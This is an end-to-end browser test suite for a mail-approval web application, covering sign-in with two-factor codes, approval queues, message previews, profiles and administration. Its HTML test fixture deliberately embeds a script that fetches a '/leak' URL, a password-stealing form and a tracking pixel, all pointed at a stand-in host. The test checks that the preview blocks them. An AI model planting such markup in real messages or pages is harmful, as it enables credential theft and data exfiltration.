"""What people do who signed in: the queue, the whole message, changing it, the profile, and what administrators do."""

import re
import smtplib
import struct
import zlib

import pytest
from e2e.house import (
    PASSWORD,
    TEAMS,
    Finger,
    button,
    house,
    mail,
    one_time_code,
    sign_in,
)
from e2e.looks import Look, accessible, fits_a_narrow_window
from playwright.sync_api import expect

pytestmark = [pytest.mark.live, pytest.mark.pages]

PHONE_JA, DESK_EN, DESK_JA = (
    Look("phone", "ja", "light"),
    Look("desk", "en", "light"),
    Look("desk", "ja", "dark"),
)
PAPER = ("見積書.pdf", b"%PDF-1.4 offer")
LIST = ("顧客名簿 2026 (最終).csv", "氏名,電話\r\n山本,03-5555-0101\r\n".encode("cp932"))
ADMINISTRATOR = "admin@example.test"
CHANNEL = "http://elsewhere.example"


@pytest.fixture(scope="module")
def home(tmp_path_factory):
    with house(
        tmp_path_factory.mktemp("desk"), MAILHOLD_UNDO_SECONDS=120, MAILHOLD_SMTP_AUTH_WITHOUT_TLS=1
    ) as running:
        yield running


@pytest.fixture
def team(look):
    return TEAMS[look.language]


@pytest.fixture
def subject(request):
    """A subject that no other test has."""
    return f"お見積書 {request.node.name}"


@pytest.fixture
def visit(home, browser, new_page, look):
    """Open a page as somebody who signed in."""

    def as_somebody(address, **options):
        return new_page(look, storage_state=home.session(browser, address), **options)

    return as_somebody


def held(home, team, subject, *, to="x@client.example", files=(PAPER,), **parts):
    return home.send(team.sender, [to], subject, files=files, **parts)


def waits(home, team, subject):
    """Wait until the approver was asked: from then on the mail is on the pages."""
    home.notice(team.approver, team.words["request"], subject)


class TestSigningIn:
    @pytest.mark.parametrize(
        ("look", "address"),
        [(PHONE_JA, "jiro@example.test"), (DESK_EN, "carol@example.test")],
        ids=["phone-ja", "desk-en"],
    )
    def test_somebody_new_sets_a_password_by_mail_and_signs_in(
        self, home, new_page, look, address, assert_accessible
    ):
        page = new_page(look)
        page.goto(f"{home.url}/accounts/login/")
        page.locator("a[href='/accounts/password/reset/']").click()
        page.fill("#id_email", address)
        assert_accessible(page)
        page.locator("form.card button.main").click()
        page.wait_for_url("**/reset/done/")
        assert_accessible(page)

        page.goto(home.reset_link(address))
        page.fill("#id_password1", PASSWORD)
        page.fill("#id_password2", PASSWORD)
        assert_accessible(page)
        page.locator("form.card button.main").first.click()
        page.wait_for_url("**/reset/key/done/")
        assert_accessible(page)

        sign_in(page, home.url, address)
        assert page.url == f"{home.url}/"
        assert_accessible(page)

    @pytest.mark.parametrize("look", [DESK_EN], ids=str)
    def test_a_confidential_mail_is_shown_and_decided_after_a_second_factor_only(
        self, home, new_page, look, team, subject, assert_accessible
    ):
        dave, text = "dave@example.test", "The vault is under the stairs."
        home.send(team.sender, ["x@vault.example"], subject, text=text)
        link = home.link(dave, team.words["request"], subject)
        home.set_password(dave)
        page = new_page(look)

        page.goto(link)
        expect(page.get_by_role("heading", level=1)).to_have_text("Sign in first")
        shows_nothing(page, subject, text)
        assert_accessible(page)
        fits_a_narrow_window(page)
        page.get_by_role("link", name="Sign in and open").click()
        page.fill("#id_login", dave)
        page.fill("#id_password", PASSWORD)
        page.locator("form.card button.main").click()
        page.wait_for_url(link)
        # A password is one factor.
        shows_nothing(page, subject, text)
        page.get_by_role("link", name="Sign in and open").click()
        page.wait_for_url("**/accounts/2fa/**")
        assert_accessible(page)

        secret = set_up_an_authenticator(page, home, assert_accessible)
        page.goto(f"{home.url}/accounts/logout/")
        page.locator("main button").click()
        page.goto(link)
        shows_nothing(page, subject, text)
        page.get_by_role("link", name="Sign in and open").click()
        page.fill("#id_login", dave)
        page.fill("#id_password", PASSWORD)
        page.locator("form.card button.main").click()
        page.wait_for_url("**/2fa/authenticate/**")
        assert_accessible(page)
        page.fill("#id_code", one_time_code(secret))
        page.locator("form.card button").first.click()
        page.wait_for_url(link)
        expect(page.get_by_role("heading", name=subject)).to_be_visible()
        assert_accessible(page)
        button(page, team.words["approve"]).click()
        expect(page.get_by_role("heading", level=1)).to_have_text(team.words["approved"])


def shows_nothing(page, *secrets):
    for secret in secrets:
        assert secret not in page.content()
    expect(page.locator("button[name=decision]")).to_have_count(0)


def set_up_an_authenticator(page, home, check):
    """Set up one-time codes as with an app; return the secret that the app would keep."""
    page.goto(f"{home.url}/accounts/2fa/totp/activate/")
    check(page)
    page.fill("#id_password", PASSWORD)  # asked anew: it may be somebody else at the same desk
    page.locator("form.card button").first.click()
    page.wait_for_url("**/totp/activate/")
    check(page)
    secret = page.locator("#authenticator_secret").input_value()
    page.fill("#id_code", one_time_code(secret))
    page.locator("form.card button").first.click()
    page.wait_for_url(lambda address: "activate" not in address)
    check(page)
    return secret


class TestDeciding:
    @pytest.mark.parametrize("look", [PHONE_JA, DESK_EN], ids=str)
    def test_from_the_queue_to_the_next_one(self, home, visit, look, team, subject, assert_accessible):
        subjects = [f"{subject} {number}" for number in (1, 2)]
        for each in subjects:
            held(home, team, each)
        for each in subjects:
            waits(home, team, each)
        page = visit(team.approver)
        page.goto(f"{home.url}/queue/")
        for each in subjects:
            expect(page.get_by_role("link", name=each)).to_be_visible()
        assert_accessible(page)

        page.get_by_role("link", name=subjects[0]).click()
        expect(page.get_by_role("heading", level=1)).to_have_text(team.words["may it leave"])
        assert_accessible(page)
        button(page, team.words["approve"]).click()
        expect(page.get_by_role("heading", level=1)).to_have_text(team.words["approved"])
        assert_accessible(page)
        page.locator("main a.button").click()
        page.wait_for_url("**/queue/")
        expect(page.get_by_role("link", name=subjects[0])).to_have_count(0)
        page.get_by_role("link", name=subjects[1]).click()
        button(page, team.words["approve"]).click()
        expect(page.get_by_role("heading", level=1)).to_have_text(team.words["approved"])
        page.goto(f"{home.url}/")
        assert_accessible(page)

    @pytest.mark.parametrize("look", [PHONE_JA, DESK_EN], ids=str)
    def test_an_approval_is_taken_back_by_the_link(self, home, new_page, look, team, subject):
        held(home, team, subject)
        link = home.asked(team, subject)
        page = new_page(look)
        finger = Finger(page)
        finger.follow(link)
        finger.press(button(page, team.words["approve"]))
        finger.press(button(page, team.words["undo"]))

        expect(page.get_by_role("heading", level=1)).to_have_text(team.words["taken back"])
        accessible(page)
        fits_a_narrow_window(page)
        page.goto(link)
        expect(button(page, team.words["approve"])).to_be_visible()
        assert not home.came("x@client.example", subject)

    @pytest.mark.parametrize("look", [DESK_EN], ids=str)
    def test_nobody_is_offered_a_decision_on_own_mail(self, home, visit, team, subject):
        held(home, team, subject)
        waits(home, team, subject)
        page = visit(team.sender)
        open_my_mail(page, home, subject)
        expect(page.locator("main a[href$='/act']")).to_be_visible()
        expect(page.locator("main a[href$='/decide']")).to_have_count(0)


def open_my_mail(page, home, subject):
    page.goto(f"{home.url}/my/")
    page.get_by_role("link", name=subject).click()
    page.wait_for_url("**/m/*/")


HTML = f"""<html><body style="background:#eee">
<p>お見積書をご覧ください。<img src="{CHANNEL}/pixel.gif" alt="far"><img src="cid:dot@example.test" alt="dot" width="20"></p>
<script>document.title = "taken over"; fetch("{CHANNEL}/leak")</script>
<a href="{CHANNEL}/login" onclick="alert(1)">here</a><form action="{CHANNEL}/steal"><input name="password"></form>
<iframe src="{CHANNEL}/frame"></iframe></body></html>"""


def png():
    """A red picture of 1 by 1."""

    def chunk(kind, content):
        return (
            struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        )

    head = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\0\xff\0\0")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


class TestTheWholeMessage:
    @pytest.mark.parametrize("look", [PHONE_JA, DESK_EN], ids=str)
    def test_every_part_is_shown_and_nothing_of_elsewhere_is_loaded(
        self, home, visit, look, team, subject, assert_accessible
    ):
        held(home, team, subject, files=(PAPER, LIST), html=HTML, picture=png())
        waits(home, team, subject)
        page = visit(team.sender)
        asked_for = []
        page.on("request", lambda request: asked_for.append(request.url))
        page.on("dialog", lambda dialog: asked_for.append(f"dialog {dialog.message}"))
        open_my_mail(page, home, subject)
        here = page.url

        for tab in page.locator("nav.tabs a").evaluate_all("links => links.map(link => link.search)"):
            page.goto(here + tab)
            expect(page.locator("nav.tabs a[aria-current=page]")).to_have_attribute("href", tab)
            assert_accessible(page)
        page.goto(f"{here}?tab=html")
        frame = page.frame_locator("iframe.preview")
        expect(page.locator("iframe.preview")).to_have_attribute("sandbox", "")
        expect(frame.locator("p")).to_contain_text("お見積書をご覧ください。")
        expect(frame.locator("img[alt=dot]")).to_have_attribute("src", re.compile("^data:image/png"))
        expect(frame.locator("script, form, iframe, [onclick]")).to_have_count(0)
        expect(frame.locator(f"[src^='{CHANNEL}'], [href^='{CHANNEL}']")).to_have_count(0)
        assert "taken over" not in page.title()
        elsewhere = [url for url in asked_for if not url.startswith((home.url, "data:"))]
        assert elsewhere == []

        page.goto(f"{here}?tab=attachments")
        for name, content in (PAPER, LIST):
            with page.expect_download() as download:
                page.get_by_role("link", name=name).click()
            assert download.value.suggested_filename == name
            assert download.value.path().read_bytes() == content

    @pytest.mark.parametrize("look", [PHONE_JA, DESK_EN], ids=str)
    def test_a_sender_drops_an_attachment_and_the_change_is_seen(
        self, home, visit, look, team, subject, assert_accessible
    ):
        held(home, team, subject, files=(PAPER, LIST))
        waits(home, team, subject)
        page = visit(team.sender)
        open_my_mail(page, home, subject)
        here = page.url
        page.locator("main a[href$='/edit']").click()
        assert_accessible(page)
        page.get_by_label(LIST[0]).uncheck()
        page.fill("#id_subject", f"直し {subject}")
        page.locator("form.page button.main").click()
        page.wait_for_url(here)
        expect(page.get_by_role("heading", level=1)).to_have_text(f"直し {subject}")
        waits(home, team, f"直し {subject}")

        page.goto(f"{here}?tab=changes")
        expect(page.locator(".diff del", has_text=LIST[0])).to_be_visible()
        expect(page.locator(".diff ins", has_text=f"直し {subject}")).to_be_visible()
        assert_accessible(page)
        page.goto(f"{here}?tab=history")
        assert page.locator("ol.lines li").count() >= 4
        expect(page.locator("ol.lines li", has_text=team.sender)).to_have_count(2)
        assert_accessible(page)
        page.goto(f"{here}?tab=attachments")
        expect(page.get_by_role("link", name=LIST[0])).to_have_count(0)


class TestTheProfile:
    @pytest.mark.parametrize("look", [PHONE_JA], ids=str)
    def test_the_language_is_switched_for_good(self, home, visit, look, assert_accessible):
        page = visit("ichiro@example.test")
        page.goto(f"{home.url}/profile/")
        expect(page.locator("html")).to_have_attribute("lang", "ja")
        assert_accessible(page)
        button(page, "English").tap()
        expect(page.locator("html")).to_have_attribute("lang", "en")
        page.goto(f"{home.url}/profile/")
        expect(page.get_by_role("heading", level=1)).to_have_text("Profile")
        page.select_option("#id_language", "ja")
        button(page, "Save").tap()
        expect(page.get_by_role("heading", level=1)).to_have_text("プロフィール")

    @pytest.mark.parametrize("look", [DESK_EN], ids=str)
    def test_an_application_password_is_shown_once_and_sends_mail(
        self, home, visit, look, team, subject, assert_accessible
    ):
        page = visit(team.sender)
        page.goto(f"{home.url}/profile/")
        page.fill("#id_label", "Thunderbird")
        button(page, "Make an application password").click()
        password = page.locator("main code").inner_text()
        assert_accessible(page)
        page.goto(f"{home.url}/profile/")
        assert password not in page.content()
        expect(page.locator("ul.lines")).to_contain_text("Thunderbird")

        content = mail(team.sender, ["carol@example.test"], subject)
        sent = [team.sender, ["carol@example.test"], content]
        assert home.plant.send(*sent, user=team.sender, password=password) == {}
        home.arrived("carol@example.test", subject)
        page.reload()
        expect(page.get_by_text("Last used")).to_be_visible()
        page.get_by_role("button", name="Revoke Thunderbird").click()
        expect(page.get_by_text("The application password was revoked.")).to_be_visible()
        with pytest.raises(smtplib.SMTPAuthenticationError):
            home.plant.send(*sent, user=team.sender, password=password)


@pytest.fixture(scope="module")
def administrator(home, browser):
    """The cookies of the first administrator, who was made by the link that `mailhold init` prints."""
    link = re.search(r"http://\S+/setup/\S+/", home.plant.manage("init")).group(0)
    context = browser.new_context(locale="ja-JP")
    page = context.new_page()
    page.goto(link)
    accessible(page)
    page.fill("#id_address", ADMINISTRATOR)
    page.fill("#id_name", "管理 まもる")
    page.fill("#id_password", PASSWORD)
    page.fill("#id_password_again", PASSWORD)
    page.locator("main button").click()
    page.wait_for_url(f"{home.url}/")
    accessible(page)
    page.goto(link)
    assert page.locator("form:not([action*=language])").count() == 0
    accessible(page)
    state = context.storage_state()
    context.close()
    return state


class TestAdministrators:
    @pytest.fixture
    def page(self, home, administrator, new_page, look):
        """A page of the administrator in the language of the look."""
        page = new_page(look, storage_state=administrator)
        page.goto(f"{home.url}/")
        if page.locator("html").get_attribute("lang") != look.language:
            page.locator("button[name=language]").click()
            expect(page.locator("html")).to_have_attribute("lang", look.language)
        return page

    @pytest.mark.parametrize("look", [DESK_JA, DESK_EN], ids=str)
    def test_every_list_and_form_of_the_administration_opens_without_a_complaint(self, home, page, look):
        page.goto(f"{home.url}/admin/")
        lists = page.locator("#content-main th a").evaluate_all("links => links.map(link => link.pathname)")
        assert {
            "/admin/directory/person/",
            "/admin/directory/department/",
            "/admin/directory/owndomain/",
            "/admin/policies/policy/",
            "/admin/approvals/hold/",
            "/admin/audit/event/",
        } <= {path for path in lists if path.count("/") == 4}
        for path in sorted({path for path in lists if path.count("/") == 4}):
            page.goto(home.url + path)
            expect(page.locator("html")).to_have_attribute("lang", look.language)
            expect(page.locator("#changelist")).to_be_visible()
            for action in ("th a", "a.addlink"):
                target = page.locator(f"#content {action}:not([href^='?'])")
                if target.count():
                    page.goto(home.url + target.first.evaluate("link => link.pathname"))
                    expect(page.locator("#content h1")).to_be_visible()
                    page.go_back()

    @pytest.mark.parametrize("look", [DESK_EN], ids=str)
    def test_a_policy_made_by_form_holds_the_next_mail(self, home, page, team, subject):
        page.goto(f"{home.url}/admin/policies/policy/add/")
        page.fill("#id_name_ja", "ロケット")
        page.fill("#id_name_en", "Rockets")
        page.select_option("#id_conditions-0-kind", "words")
        page.select_option("#id_conditions-0-choice", "both")
        page.fill("#id_conditions-0-values", "rocket")
        page.select_option("#id_actions-0-kind", "approval")
        page.fill("#id_actions-0-deadline_seconds", "24h")
        page.select_option("#id_actions-0-approvers", "manager")
        page.locator("input[name=_save]").click()
        page.wait_for_url("**/policies/policy/")
        expect(page.locator("#result_list")).to_contain_text("Rockets")

        home.send(team.sender, ["carol@example.test"], subject, text="The rocket flies.\n")
        link = home.asked(team, subject)
        page.goto(link)
        expect(page.locator("section.warn")).to_contain_text("rocket")

    @pytest.mark.parametrize("look", [DESK_JA, DESK_EN], ids=str)
    def test_a_held_mail_is_read_and_released(self, home, page, team, subject, assert_accessible):
        content = held(home, team, subject)
        waits(home, team, subject)
        open_from_administration(page, home, subject)
        page.locator("details.card summary").click()
        assert_accessible(page)
        page.locator("button[value=release]").click()
        expect(page.locator("ul.messages")).to_be_visible()
        assert home.arrived("x@client.example", subject).content.endswith(content)

    @pytest.mark.parametrize("look", [DESK_EN], ids=str)
    def test_a_held_mail_is_discarded_with_a_reason_for_the_record(self, home, page, team, subject):
        held(home, team, subject)
        waits(home, team, subject)
        open_from_administration(page, home, subject)
        page.locator("details.card summary").click()
        page.fill("#administer-comment", "A test mail.")
        page.locator("button[value=discard]").click()
        expect(page.locator("ul.messages")).to_contain_text("The mail was discarded.")
        page.goto(f"{page.url}?tab=history")
        expect(page.locator("ol.lines")).to_contain_text(ADMINISTRATOR)
        assert not home.came("x@client.example", subject)


def open_from_administration(page, home, subject):
    """Find the hold in the administration, where nothing can be changed, and open its page."""
    page.goto(f"{home.url}/admin/approvals/hold/?q={subject}")
    page.locator("#result_list th a").first.click()
    expect(page.locator("input[name=_save]")).to_have_count(0)
    page.locator("#content a[href^='/m/']").first.click()
    page.wait_for_url("**/m/*/")
    expect(page.get_by_role("heading", level=1)).to_have_text(subject)
